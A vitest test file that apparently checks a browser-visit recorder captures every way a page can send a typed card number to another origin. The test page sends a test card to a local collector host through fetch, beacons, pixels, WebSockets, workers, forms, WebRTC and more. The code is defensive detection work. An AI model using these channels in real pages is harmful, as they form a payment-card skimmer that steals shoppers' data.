/** Every way by which a page can send a card number away, tried in one real visit. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { SentRequest, VisitRecord } from './port.ts';
import { bodyText, browserMissing, openSites, openTestBrowser, orderOf, type Sites } from './testing.ts';

const CANARY = '4111111111111111';

/** Each line is run on a click, in the page, with `n` the number and `b` the origin that collects. */
const SENDING = `
  const n = document.querySelector('#number').value;
  fetch(b + '/fetch-text', { method: 'POST', body: n });
  fetch(b + '/fetch-blob', { method: 'POST', body: new Blob([n]) });
  fetch(b + '/fetch-buffer', { method: 'POST', body: new TextEncoder().encode(n) });
  fetch(b + '/fetch-header', { headers: { 'x-note': n } }).catch(() => {});
  const form = new FormData(); form.append('number', n); form.append('file', new Blob(['file ' + n]), 'card.txt');
  fetch(b + '/fetch-multipart', { method: 'POST', body: form });
  fetch(b + '/fetch-large', { method: 'POST', body: 'x'.repeat(1500000) + n });
  fetch(b + '/keepalive', { method: 'POST', body: n, keepalive: true });
  fetch(b + '/redirected', { method: 'POST', body: n, mode: 'no-cors' });
  const xhr = new XMLHttpRequest(); xhr.open('POST', b + '/xhr'); xhr.send(n);
  navigator.sendBeacon(b + '/beacon', n);
  navigator.sendBeacon(b + '/beacon-blob', new Blob([n]));
  new Image().src = b + '/pixel?n=' + n;
  const script = document.createElement('script'); script.src = b + '/script?n=' + n; document.body.append(script);
  const style = document.createElement('link'); style.rel = 'stylesheet'; style.href = b + '/style?n=' + n; document.head.append(style);
  document.body.style.backgroundImage = 'url(' + b + '/css-url?n=' + n + ')';
  const prefetch = document.createElement('link'); prefetch.rel = 'prefetch'; prefetch.href = b + '/prefetch?n=' + n; document.head.append(prefetch);
  new EventSource(b + '/event-source?n=' + n);
  const frame = document.createElement('iframe'); frame.src = b + '/iframe?n=' + n; document.body.append(frame);
  const sheet = document.createElement('form'); sheet.method = 'post'; sheet.action = b + '/form'; sheet.target = 'sink';
  sheet.innerHTML = '<input name=number value="' + n + '">'; document.body.append(sheet); sheet.submit();
  const socket = new WebSocket(b.replace('http', 'ws') + '/socket?q=' + n);
  socket.onopen = () => { socket.send(n); socket.send(new TextEncoder().encode('binary ' + n)); socket.send(new Blob(['blob ' + n])); };
  const work = (name) => 'fetch("' + b + '/' + name + '", { method: "POST", body: "' + n + '" })';
  new Worker(URL.createObjectURL(new Blob([work('worker')])));
  new SharedWorker(URL.createObjectURL(new Blob([work('shared-worker')])));
  navigator.serviceWorker.ready.then((ready) => ready.active.postMessage(n));
  const popup = window.open(b + '/popup?n=' + n);
  new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + n + '.b.localhost:' + location.port }] }).createDataChannel('x');
  addEventListener('pagehide', () => {
    navigator.sendBeacon(b + '/pagehide-text', n);
    navigator.sendBeacon(b + '/pagehide-blob', new Blob([n]));
    fetch(b + '/pagehide-fetch', { method: 'POST', body: n, keepalive: true });
  });
`;

const pages = (port: number) => ({
  '/': `<!doctype html><title>見附</title><input id="number"><button id="send">送る</button><iframe name="sink"></iframe>
    <script>const b = 'http://b.localhost:${port}'; navigator.serviceWorker.register('/service.js');
    document.querySelector('#send').onclick = () => {${SENDING}};</script>`,
  '/service.js': `addEventListener('install', () => skipWaiting()); addEventListener('activate', (e) => e.waitUntil(clients.claim()));
    addEventListener('message', ({ data }) => fetch('http://b.localhost:${port}/service-worker', { method: 'POST', body: data }));`,
  '/iframe': `<script>fetch('/from-iframe', { method: 'POST', body: location.search })</script>`,
  '/popup': `<script>fetch('/from-popup', { method: 'POST', body: location.search })</script>`,
  '/redirected': (_: unknown, response: import('node:http').ServerResponse) => {
    response.writeHead(307, {
      location: `http://b.localhost:${port}/redirect-end`,
      'access-control-allow-origin': '*',
    });
    response.end();
  },
});

describe('what leaves the browser is recorded', async () => {
  const opened = await openTestBrowser();
  const missing = await browserMissing(opened.browser);
  if (missing) {
    test.skip(missing, () => undefined);
    return;
  }
  let sites: Sites;
  let record: VisitRecord;
  const sent = (path: string): SentRequest | undefined =>
    record.requests.find(({ url }) => URL.parse(url)?.pathname === path);

  beforeAll(async () => {
    sites = await openSites(pages);
    const shop = `http://a.localhost:${sites.port}`;
    record = await opened.browser.visit(
      orderOf([
        { act: 'open', url: `${shop}/` },
        { act: 'fill', on: { css: '#number' }, value: CANARY },
        { act: 'click', on: { css: '#send' } },
      ]),
      'off',
    );
  });
  afterAll(async () => {
    await sites.close();
    await opened.close();
  });

  test('the visit came to its end', () => expect(record.end).toEqual({ kind: 'completed' }));

  test.each([
    ['fetch-text', 'fetch', CANARY],
    ['fetch-blob', 'fetch', CANARY],
    ['fetch-buffer', 'fetch', CANARY],
    ['keepalive', 'fetch', CANARY],
    ['redirected', 'fetch', CANARY],
    ['redirect-end', 'fetch', CANARY],
    ['xhr', 'fetch', CANARY],
    ['beacon', 'beacon', CANARY],
    ['beacon-blob', 'beacon', CANARY],
    ['form', 'document', `number=${CANARY}`],
  ] as const)('%s: with its body and place', (path, kind, body) => {
    const request = sent(`/${path}`);
    expect(request).toMatchObject({ method: 'POST', kind, bodyIncomplete: false, step: 2, refused: false });
    expect(bodyText(request)).toBe(body);
    expect(request?.frameUrl).toBe(`http://a.localhost:${sites.port}/`);
  });
});
